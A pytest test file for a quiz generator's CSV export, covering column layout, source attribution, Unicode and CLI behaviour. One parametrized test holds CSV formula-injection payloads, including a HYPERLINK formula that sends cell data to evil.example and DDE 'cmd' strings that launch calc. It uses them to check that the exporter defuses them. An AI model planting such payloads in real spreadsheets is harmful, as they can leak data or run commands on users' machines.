"""CSV export: parsed back with the csv module, attribution checked against the sources."""

from __future__ import annotations

import copy
import csv
import hashlib
import io
import json
import shutil
from pathlib import Path

import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from quizgen.cli import main
from quizgen.deck import load_deck_with_sources
from quizgen.errors import QuizgenError
from quizgen.export import write_csv
from quizgen.export_csv import FORMULA_START, neutralised, render_csv

MINI_DIR = Path(__file__).parent / "fixtures" / "mini"
# The columns the export promises, in order (see the export's documentation).
PROMISED_COLUMNS = [
    "id", "kind", "format", "prompt", "answer", "accepted", "distractors",
    "source_id", "source_title", "quote", "start", "end", "claimant",
    "disputed_values", "disputed_claimants", "disputed_sources", "rank", "siblings", "citation",
]
SEPARATOR = " | "


def read_rows(path: Path) -> tuple[list[str], list[dict[str, str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        return list(reader.fieldnames or []), list(reader)


def one_question_deck(*, prompt: str, quote: str, claimant: str | None) -> dict:
    text = "Intro. " + quote + " Outro."
    start = text.index(quote)
    return {
        "format": "quizgen-deck/1", "id": "generated", "title": "Generated",
        "sources": [{"id": "src", "title": "Source “one”", "kind": "article", "path": "src.txt",
                     "sha256": hashlib.sha256(text.encode()).hexdigest()}],
        "questions": [{
            "id": "q", "kind": "name", "format": "type_in", "prompt": prompt, "answer": quote[:1],
            "accepted": [], "distractors": [],
            "evidence": [{"source": "src", "exact": quote, "start": start, "end": start + len(quote),
                          "prefix": text[:start], "suffix": text[start + len(quote):],
                          "value": quote[:1], "claimant": claimant}],
            "disputed_by": [],
        }],
    }


@pytest.fixture
def mini():
    return load_deck_with_sources(MINI_DIR / "deck.json")


def test_one_row_per_question_with_the_promised_header(mini, tmp_path):
    deck, _ = mini
    write_csv(deck, tmp_path / "deck.csv")
    header, rows = read_rows(tmp_path / "deck.csv")
    assert header == PROMISED_COLUMNS
    assert [row["id"] for row in rows] == [q["id"] for q in deck["questions"]]
    for row, question in zip(rows, deck["questions"], strict=True):
        assert (row["kind"], row["format"], row["prompt"], row["answer"]) == (
            question["kind"], question["format"], question["prompt"], question["answer"])
        assert row["accepted"].split(SEPARATOR) == question["accepted"]
        assert row["distractors"].split(SEPARATOR) == question["distractors"]


def test_rank_and_siblings_columns_are_filled_when_the_deck_has_them(mini, tmp_path):
    deck, _ = mini
    deck["questions"][0].update(rank=2, siblings="landing")
    deck["questions"][1]["rank"] = 1
    write_csv(deck, tmp_path / "deck.csv")
    _, rows = read_rows(tmp_path / "deck.csv")
    assert [(row["rank"], row["siblings"]) for row in rows[:3]] == [("2", "landing"), ("1", ""), ("", "")]
    assert [row["id"] for row in rows] == [q["id"] for q in deck["questions"]]  # file order, as before


def test_attribution_columns_point_at_the_quote_in_its_source(mini, tmp_path):
    deck, texts = mini
    write_csv(deck, tmp_path / "deck.csv")
    _, rows = read_rows(tmp_path / "deck.csv")
    titles = {source["id"]: source["title"] for source in deck["sources"]}
    for row, question in zip(rows, deck["questions"], strict=True):
        evidence = list(zip(*(row[column].split(SEPARATOR) for column in
                              ("source_id", "source_title", "quote", "start", "end", "claimant")), strict=False))
        assert len(evidence) == len(question["evidence"])
        for (source_id, title, quote, start, end, claimant), expected in zip(evidence, question["evidence"],
                                                                              strict=True):
            assert texts[source_id][int(start):int(end)] == quote
            assert source_id == expected["source"] and title == titles[source_id]
            assert claimant == (expected["claimant"] or "")
        disputes = question["disputed_by"]
        if not disputes:
            assert row["disputed_values"] == row["disputed_claimants"] == row["disputed_sources"] == ""
            continue
        assert row["disputed_values"].split(SEPARATOR) == [d["value"] for d in disputes]
        assert row["disputed_claimants"].split(SEPARATOR) == [d["claimant"] or "" for d in disputes]
        assert row["disputed_sources"].split(SEPARATOR) == [titles[d["source"]] for d in disputes]


def test_unicode_survives_as_utf8(tmp_path):
    quote = "Şuşa (Шуша, Շուշի) — “the city” fell; 20 % of 🏔 & <more>"
    deck = one_question_deck(prompt="Où est Xankəndi?", quote=quote, claimant="Ilham Əliyev")
    write_csv(deck, tmp_path / "deck.csv")
    assert quote.encode("utf-8") in (tmp_path / "deck.csv").read_bytes()
    _, rows = read_rows(tmp_path / "deck.csv")
    assert (rows[0]["prompt"], rows[0]["quote"], rows[0]["claimant"]) == (
        "Où est Xankəndi?", quote, "Ilham Əliyev")


# Cells that need csv quoting: separators, quote marks, line breaks.
# Any text a deck may hold: the deck contract refuses NUL (quizgen.deck.validate_structure).
cell_text = st.text(st.characters(blacklist_characters="\x00", blacklist_categories=("Cs",)),
                    min_size=1).filter(lambda s: SEPARATOR not in s)


@settings(max_examples=40, deadline=None)
@given(prompt=cell_text, quote=cell_text)
def test_any_text_round_trips_through_csv(prompt, quote):
    deck = one_question_deck(prompt=prompt, quote=quote, claimant=None)
    [row] = list(csv.DictReader(io.StringIO(render_csv(deck), newline="")))
    assert (row["prompt"], row["quote"], row["claimant"]) == (neutralised(prompt), neutralised(quote), "")
    assert (row["prompt"] != prompt) == prompt.startswith(FORMULA_START)


@pytest.mark.parametrize("cell", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0",
                                  "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"])
def test_cells_that_a_spreadsheet_would_run_start_with_an_apostrophe(cell, tmp_path):
    deck = one_question_deck(prompt=cell, quote=cell, claimant=cell)
    deck["questions"][0]["answer"] = cell
    deck["questions"][0]["evidence"][0]["value"] = cell
    deck["questions"][0]["distractors"] = [cell]
    [row] = list(csv.DictReader(io.StringIO(render_csv(deck), newline="")))
    for column in ("prompt", "answer", "quote", "claimant", "distractors"):
        assert row[column] == "'" + cell
    # The command line writes the same cells.
    (tmp_path / "src.txt").write_text("Intro. " + cell + " Outro.", encoding="utf-8")
    (tmp_path / "deck.json").write_text(json.dumps(deck), encoding="utf-8")
    result = CliRunner().invoke(main, ["export", str(tmp_path / "deck.json"), "--csv", str(tmp_path / "out.csv")])
    assert result.exit_code == 0, result.output
    _, [written] = read_rows(tmp_path / "out.csv")
    assert written["answer"] == "'" + cell


def test_ordinary_cells_are_left_alone():
    deck = one_question_deck(prompt="In 1931, ___ moved to Geneva.", quote="Anna Keller moved", claimant=None)
    [row] = list(csv.DictReader(io.StringIO(render_csv(deck), newline="")))
    assert row["prompt"] == "In 1931, ___ moved to Geneva." and row["quote"] == "Anna Keller moved"


def test_bad_deck_writes_nothing_and_keeps_the_old_file(mini, tmp_path):
    deck, _ = mini
    out = tmp_path / "deck.csv"
    write_csv(deck, out)
    before = out.read_bytes()
    broken = copy.deepcopy(deck)
    broken["questions"][2]["evidence"][0]["source"] = "no-such-source"
    with pytest.raises(QuizgenError, match="no-such-source"):
        write_csv(broken, out)
    del broken["questions"][0]["prompt"]
    with pytest.raises(QuizgenError, match="prompt"):
        write_csv(broken, tmp_path / "other.csv")
    assert out.read_bytes() == before
    assert [p.name for p in tmp_path.iterdir()] == ["deck.csv"]


def test_cli_writes_csv_and_anki_together(tmp_path):
    csv_out, anki_out = tmp_path / "deck.csv", tmp_path / "deck.apkg"
    result = CliRunner().invoke(main, ["export", str(MINI_DIR / "deck.json"),
                                       "--csv", str(csv_out), "--anki", str(anki_out)])
    assert result.exit_code == 0, result.output
    deck, _ = load_deck_with_sources(MINI_DIR / "deck.json")
    assert len(read_rows(csv_out)[1]) == len(deck["questions"])
    assert anki_out.stat().st_size > 0


def test_cli_requires_an_output(tmp_path):
    result = CliRunner().invoke(main, ["export", str(MINI_DIR / "deck.json")])
    assert result.exit_code == 2
    assert "--anki" in result.stderr and "--csv" in result.stderr


def test_cli_missing_deck_is_one_line_naming_the_file(tmp_path):
    missing, out = tmp_path / "missing.json", tmp_path / "deck.csv"
    result = CliRunner().invoke(main, ["export", str(missing), "--csv", str(out)])
    assert result.exit_code == 1
    assert result.stderr.startswith("error: ") and str(missing) in result.stderr
    assert len(result.stderr.splitlines()) == 1
    assert not out.exists()


def test_cli_changed_source_fails_before_any_file_is_written(tmp_path):
    deck_dir = tmp_path / "mini"
    shutil.copytree(MINI_DIR, deck_dir)
    source = deck_dir / "sources" / "press-summary.txt"
    source.write_text(source.read_text("utf-8").replace("22 kg", "23 kg"), "utf-8")
    out_dir = tmp_path / "out"
    result = CliRunner().invoke(main, ["export", str(deck_dir / "deck.json"),
                                       "--csv", str(out_dir / "deck.csv"),
                                       "--anki", str(out_dir / "deck.apkg")])
    assert result.exit_code == 1
    assert "press-summary" in result.stderr and len(result.stderr.splitlines()) == 1
    assert not out_dir.exists()

    skipped = CliRunner().invoke(main, ["export", str(deck_dir / "deck.json"), "--no-source-check",
                                        "--csv", str(out_dir / "deck.csv")])
    assert skipped.exit_code == 0, skipped.output
    assert (out_dir / "deck.csv").exists()
